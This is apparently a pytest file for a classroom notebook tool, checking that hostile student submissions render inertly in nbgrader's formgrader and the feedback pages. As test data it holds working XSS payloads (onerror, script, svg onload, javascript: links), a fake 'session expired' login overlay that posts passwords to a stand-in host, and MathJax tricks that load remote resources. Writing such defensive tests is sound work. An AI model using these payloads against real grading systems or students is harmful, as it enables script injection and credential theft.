"""What a student hands in is shown as data (attnbook_classroom.course.sanitize): the rule on markdown,
the page nbgrader's formgrader makes of a hostile autograded notebook, rendered with nbgrader's own
exporter configuration and template, and the feedback page the course's pipeline makes of it after
ShowAsData. (tests/browser/test_classroom_pages.py opens the real feedback page and the real
formgrader in Chromium after a real grading run.)
"""

from __future__ import annotations

import copy
import html.parser
import importlib

import nbformat
import pytest

from attnbook_classroom.course.folder import config, write_config
from attnbook_classroom.course.notebooks import exercise_notebook
from bookbuild.notebooks import toc_chapters
from attnbook_classroom.course.plugins import FeedbackExporter
from attnbook_classroom.course.sanitize import AS_TEXT_NOTE, renders_safely, safe_markdown, sanitize_notebook

RUN = "window.pwned = 1"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
KEPT = [  # markdown nbconvert renders with nothing of the student's as HTML, and no address but links
    "plain *text*, `a < b` in code, $x < y$ and $$\\sum_i x_i$$",
    "```python\nif a < b and c > d:\n    pass\n```",
    "# A heading\n\n- a [link](https://example.org), a [mail](mailto:a@example.org), an [anchor](#top)",
    f"![a figure](data:image/png;base64,{PNG})",
    "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n- [x] done\n- [ ] to do\n\n3. three\n\nTerm\n: its meaning\n\n"
    "> ~~old~~ and <https://example.org>",
    "```text-we-have-no-lexer-for\nx < y\n```\n\n    indented code",
]
SHOWN_AS_TEXT = [  # raw HTML, a script, an SVG, a link that runs code, a remote image, a data: page
    f'<img src=x onerror="{RUN}">', f"text <script>{RUN}</script> more", f'<svg onload="{RUN}"></svg>',
    "[click](javascript:window.pwned=1)", "[click](java&#x73;cript:window.pwned=1)",
    "<javascript:window.pwned=1>", "![seen](http://203.0.113.9/seen.png)",
    "[page](data:text/html,<script>alert(1)</script>)", f'<a href="javascript:{RUN}">x</a>',
    f'```\nclosed early\n```\n<img src=x onerror="{RUN}">\n````',
]


@pytest.mark.parametrize("source", KEPT)
def test_markdown_that_renders_as_data_is_kept(source):
    assert safe_markdown(source) == source


@pytest.mark.parametrize("source", SHOWN_AS_TEXT)
def test_markdown_with_html_or_other_addresses_is_shown_as_written(source):
    shown = safe_markdown(source)
    assert shown.startswith(AS_TEXT_NOTE) and source in shown and renders_safely(shown), shown


class _Page(html.parser.HTMLParser):
    """Every element, attribute and script of a page."""

    def __init__(self):
        super().__init__()
        self.tags, self.handlers, self.addresses, self.scripts, self._in_script = [], [], [], [], False
        self.ids = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self._in_script = tag == "script"
        if tag == "meta" and ("http-equiv", "refresh") in attrs:
            self.addresses.append((tag, "content", dict(attrs).get("content")))
        for name, value in attrs:
            if name == "id":
                self.ids.append((tag, value))
            if name.startswith("on"):
                self.handlers.append((tag, name, value))
            if name in ("href", "src", "action", "formaction", "xlink:href") and value:
                self.addresses.append((tag, name, value))

    def handle_data(self, data):
        if self._in_script:
            self.scripts.append(data)

    def handle_endtag(self, tag):
        self._in_script = False


def hostile_notebook() -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2,
                                                                           "version_minor": 0}}
    nb.metadata["title"] = f'<img src=x onerror="{RUN}">'
    written = nbformat.v4.new_markdown_cell("\n\n".join(SHOWN_AS_TEXT))
    written.metadata["nbgrader"] = {"grade": True, "grade_id": "written", "locked": False, "points": 1,
                                    "schema_version": 3, "solution": True, "task": False}
    raw = nbformat.v4.new_raw_cell(f"<script>{RUN}</script>")
    raw.metadata["raw_mimetype"] = "text/html"
    attached = nbformat.v4.new_markdown_cell("![a](attachment:a.html)")
    attached.attachments = {"a.html": {"text/html": "PHNjcmlwdD4="}}
    code = nbformat.v4.new_code_cell("print(1)")
    code.metadata["tags"] = [f'"><img src=x onerror="{RUN}">', "plain-tag"]
    code.outputs = [
        nbformat.v4.new_output("display_data", data={
            "text/html": f'<img src=x onerror="{RUN}">', "application/javascript": RUN,
            "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>', "text/plain": "<b>x</b>",
            "application/vnd.jupyter.widget-view+json": {"model_id": "w", "version_major": 2, "version_minor": 0}}),
        nbformat.v4.new_output("display_data", data={"image/png": f'{PNG}" onerror="{RUN}'},
                               metadata={"image/png": {"width": f"1 onerror={RUN}"}}),
        nbformat.v4.new_output("display_data", data={"image/png": PNG}),
        nbformat.v4.new_output("error", ename="ValueError", evalue=f'<img src=x onerror="{RUN}">',
                               traceback=[f"<script>{RUN}</script>"]),
    ]
    nb.cells = [written, raw, attached, code]
    return nb


def formgrader_page(nb) -> str:
    """The page formgrader makes of an autograded notebook: nbgrader's own exporter configuration
    (its formgrade template) and the resources its submission handler passes."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader.formgrader import FormgradeExtension

    exporter = HTMLExporter(config=FormgradeExtension().build_extra_config())
    resources = {"assignment_id": "hw", "notebook_id": "hw", "submission_id": "1", "index": 0, "total": 1,
                 "base_url": "", "student": "mallory", "last_name": "M", "first_name": "M",
                 "notebook_path": "/notebooks/autograded/mallory/hw/hw.ipynb"}
    page, _ = exporter.from_notebook_node(nb, resources=resources)
    return page


def test_formgrader_shows_a_hostile_submission_as_data():
    """Before: the submission's HTML and scripts are in formgrader's page. After ShowAsData: no
    handler, no script of the student's, no address but embedded images and formgrader's own; what
    the student wrote is there as text; the rest of the notebook is intact."""
    before = _Page()
    before.feed(formgrader_page(hostile_notebook()))
    assert before.handlers and any(RUN in s for s in before.scripts)  # the page as nbgrader makes it today

    nb = sanitize_notebook(hostile_notebook())
    nbformat.validate(nb)
    page = formgrader_page(nb)
    after = _Page()
    after.feed(page)
    assert not any("pwned" in text for _, _, text in after.handlers), after.handlers  # formgrader's own are there
    assert not any("pwned" in text for text in after.scripts), after.scripts
    assert "svg" not in after.tags and "iframe" not in after.tags
    for tag, name, value in after.addresses:  # formgrader's own (its pages, scripts, MathJax), embedded images
        assert value.startswith(("data:image/png;base64,", "#", "/formgrader/",
                                 "https://cdnjs.cloudflare.com/ajax/libs/mathjax/")), (tag, name, value)
    assert "onerror=" in page.replace("&quot;", '"') and "plain-tag" in page and "<b>x</b>" not in page
    assert nb.cells[0].metadata["nbgrader"]["grade_id"] == "written" and nb.metadata == {}
    assert [o.output_type for o in nb.cells[3].outputs] == ["display_data", "display_data", "error"]
    assert nb.cells[3].outputs[0].data == {"text/plain": "<b>x</b>"}
    assert nb.cells[3].outputs[1].data == {"image/png": PNG}


def test_the_books_own_exercise_cells_are_shown_as_written():
    """Every markdown cell of every chapter's exercise notebook is kept as it is by sanitize_notebook
    (its headings, maths and grade ids together): only what a student adds is ever shown as text."""
    pairs = []  # (written, shown) for each markdown cell
    for chapter in toc_chapters():
        nb = exercise_notebook(chapter)
        shown = sanitize_notebook(copy.deepcopy(nb))
        pairs += [(cell.source, after.source) for cell, after in zip(nb.cells, shown.cells, strict=True)
                  if cell.cell_type == "markdown"]
    assert pairs and [written[:80] for written, shown in pairs if shown != written] == []


# The attacks a hostile student found, each with the cell that carried it.
OVERLAY = ('<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:#fff">'
           '<h1>session expired</h1><form action="https://203.0.113.9/steal" method="post">'
           '<input name=pw type=password placeholder="password"><button>Sign in again</button></form></div>')
MERMAID = [  # nbconvert's renderer copies a mermaid block as it is, escaping or not: the two renders agree
    f'```mermaid\n<img src=x onerror="{RUN}">\n```',
    f"```mermaidx\n<img src=x onerror={RUN}>\n```",
    f'```mermaid\n<meta http-equiv="refresh" content="3;url=https://203.0.113.9/seen">{OVERLAY}\n```',
]
LATER_STEPS = [  # markdown that is data, which a step after ShowAsData rewriting markdown made live
    f"BEGIN HIDDEN TESTS\n```\nEND HIDDEN TESTS\n{OVERLAY}\n```",  # removing the marked lines opened the fence
    f"`x\n$\\grave{{a}}$ {OVERLAY}`",  # a backtick in MathML written into the markdown closed the code span
    f"<img src=x onerror=\"{RUN}\" title='$x'y$'>",  # MathML's quotes written into the markdown
]
MATHJAX = [  # maths formgrader's MathJax 2.7 (with its Safe extension) styles, links, names or extends
    r"My answer: $\style{cursor:url(https://203.0.113.9/seen.png),auto}{x}$",
    r"My answer: &#92;(\style{cursor:url(https://203.0.113.9/entity.png),auto}{x}&#92;) and "
    r"&#36;\bbox[cursor:url(https://203.0.113.9/bbox.png),auto]{y}&#36;",
    r"$\href{https://203.0.113.9/h}{click}$", r"$\class{navbar-fixed-top}{x}$", r"$\cssId{statusmessage}{x}$",
    r"$\unicode[serif]{x41}$", r"$\require{https://203.0.113.9/x.js}$", r'$\mmlToken{mi}[href="https://a.b"]{x}$',
    r"$\texttip{a}{tip}$", r"$\toggle{a}{b}\endtoggle$", r"\\(\def\s{\sty}\s x\\)",
    r"\begin{equation}\newcommand{\x}{y}\x\end{equation}", r"$x$, and a url(https://203.0.113.9/c.png)",
]


def _assert_inert(page: str) -> _Page:
    """A formgrader page with no handler, script, form, SVG, frame or address of the student's."""
    found = _Page()
    found.feed(page)
    assert not any("pwned" in text for _, _, text in found.handlers), found.handlers
    assert not any("pwned" in text for text in found.scripts), found.scripts
    assert not {"form", "svg", "iframe"} & set(found.tags), found.tags
    for tag, name, value in found.addresses:  # formgrader's own (its pages, scripts, MathJax), embedded images
        assert value.startswith(("data:image/png;base64,", "#", "/formgrader/",
                                 "https://cdnjs.cloudflare.com/ajax/libs/mathjax/")), (tag, name, value)
    return found


@pytest.mark.parametrize("source", MERMAID + MATHJAX)
def test_a_mermaid_block_and_styled_maths_are_shown_as_written(source):
    """A mermaid block (its script ran in formgrader, its overlay sat on the feedback page) and maths
    that MathJax would style, link or extend (a cursor from elsewhere was fetched as the page loaded)
    are shown as the text the student wrote; formgrader's page of it holds no tag of theirs."""
    shown = safe_markdown(source)
    assert shown.startswith(AS_TEXT_NOTE) and source in shown and renders_safely(shown), shown
    _assert_inert(formgrader_page(sanitize_notebook(nbformat.v4.new_notebook(
        cells=[nbformat.v4.new_markdown_cell(source)]))))


@pytest.mark.parametrize("heading", ["causal-square", "causal-square-comment", "causal-square_extra_credit",
                                     "written", "statusmessage", "notebook-container"])
def test_a_heading_never_takes_an_id_formgrader_looks_up(heading):
    """A heading's id that is a grade cell's (or its comment's or extra credit's) would take that
    cell's score box in formgrader, whose script looks the box up by id (the score given to the
    written answer was written into the test cell's grade): shown as written, the id is formgrader's
    alone. Another heading stays a heading."""
    source = f"# {heading}\n\nMy written answer."
    written = nbformat.v4.new_markdown_cell(source)
    written.metadata["nbgrader"] = {"grade": True, "grade_id": "written", "locked": False, "points": 1,
                                    "schema_version": 3, "solution": True, "task": False}
    test = nbformat.v4.new_code_cell("assert True")
    test.metadata["nbgrader"] = {"grade": True, "grade_id": "causal-square", "locked": True, "points": 1,
                                 "schema_version": 3, "solution": False, "task": False}
    nb = nbformat.v4.new_notebook(cells=[written, test, nbformat.v4.new_markdown_cell("# My answer")])
    nb = sanitize_notebook(nb)
    assert nb.cells[0].source.startswith(AS_TEXT_NOTE) and source in nb.cells[0].source
    assert nb.cells[2].source == "# My answer"
    ids = _assert_inert(formgrader_page(nb)).ids
    assert [value for tag, value in ids if tag in ("h1", "h2", "h3", "h4", "h5", "h6")] == ["My-answer"], ids
    assert ("input", "causal-square") in ids and ("textarea", "written-comment") in ids, ids


def _feedback_steps(tmp_path) -> list:
    """The course's feedback preprocessors after ShowAsData (its nbgrader_config.py), but nbgrader's
    GetGrades, which reads the gradebook and writes scores and comments into cell metadata only."""
    write_config(tmp_path, tmp_path / "exchange")
    names = list(config(tmp_path).GenerateFeedback.preprocessors)
    after = names[names.index("attnbook_classroom.course.plugins.ShowAsData") + 1:]
    assert "nbgrader.preprocessors.GetGrades" in after
    return [getattr(importlib.import_module(module), name)() for module, _, name in
            (step.rpartition(".") for step in after if step != "nbgrader.preprocessors.GetGrades")]


def test_nothing_after_show_as_data_rewrites_a_markdown_cell(tmp_path):
    """ShowAsData judged each markdown cell by the page its text makes: the feedback pipeline after it
    leaves every markdown cell's text as ShowAsData made it, and still removes the hidden tests from
    the test cells."""
    sources = KEPT + SHOWN_AS_TEXT + MERMAID + LATER_STEPS + MATHJAX
    test = nbformat.v4.new_code_cell("check(1)\n### BEGIN HIDDEN TESTS\ncheck(2)\n### END HIDDEN TESTS")
    test.metadata["nbgrader"] = {"grade": True, "grade_id": "t", "locked": True, "points": 1,
                                 "schema_version": 3, "solution": False, "task": False}
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(s) for s in sources] + [test])
    nb = sanitize_notebook(nb)
    shown = [c.source for c in nb.cells if c.cell_type == "markdown"]
    resources = {"config_dir": str(tmp_path)}  # where CSSHTMLHeaderPreprocessor looks for custom CSS
    for step in _feedback_steps(tmp_path):
        nb, resources = step.preprocess(nb, resources)
    assert [c.source for c in nb.cells if c.cell_type == "markdown"] == shown
    assert nb.cells[-1].source.strip() == "check(1)"


@pytest.mark.parametrize("source", LATER_STEPS + MERMAID)
def test_the_feedback_page_shows_the_student_markdown_as_data(tmp_path, source):
    """The feedback page the course's pipeline and exporter make: no tag of the student's (the
    overlay, its form, a refresh, an image with a handler), the student's text there to read, and
    maths as MathML written by the renderer."""
    nb = sanitize_notebook(nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(source),
                                                          nbformat.v4.new_markdown_cell(r"$\frac{a}{b} < c$")]))
    resources = {"config_dir": str(tmp_path)}
    for step in _feedback_steps(tmp_path):
        nb, resources = step.preprocess(nb, resources)
    page, _ = FeedbackExporter().from_notebook_node(nb, resources)
    body = page[page.index("<body"):]
    for tag in ("<form", "<div style", "<img", "<meta", "<input", "<h1>"):
        assert tag not in body, (tag, body[:3000])
    assert "session expired" in body or "onerror" in body
    assert "<math" in body and "\\frac" not in body  # the maths of the second cell is MathML


def test_the_feedback_page_makes_nbconverts_accessibility_edits():
    """FeedbackExporter does on the page's text what HTMLExporter does by parsing it: every image
    gets alternative text and every cell's input and output is focusable, on the same elements."""
    from bs4 import BeautifulSoup
    from nbconvert.exporters import HTMLExporter

    png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
    figure = nbformat.v4.new_output("display_data", data={"image/png": png, "text/plain": "<Figure>"})
    text = nbformat.v4.new_output("stream", name="stdout", text="printed\n")
    nb = nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_markdown_cell("# A heading\n\nSome text."),
        nbformat.v4.new_code_cell("plot()", outputs=[figure, text]),
        nbformat.v4.new_code_cell("x = 1"),
    ])
    ours = BeautifulSoup(FeedbackExporter().from_notebook_node(nb)[0], "html.parser")
    theirs = BeautifulSoup(HTMLExporter().from_notebook_node(nb)[0], "html.parser")
    assert ours.select("img") and not ours.select("img:not([alt])")
    assert [img["alt"] for img in ours.select("img")] == [img["alt"] for img in theirs.select("img")]
    focusable = [[" ".join(e["class"]) for e in page.select("[tabindex]")] for page in (ours, theirs)]
    assert focusable[0] == focusable[1] and len(focusable[0]) == 5, focusable
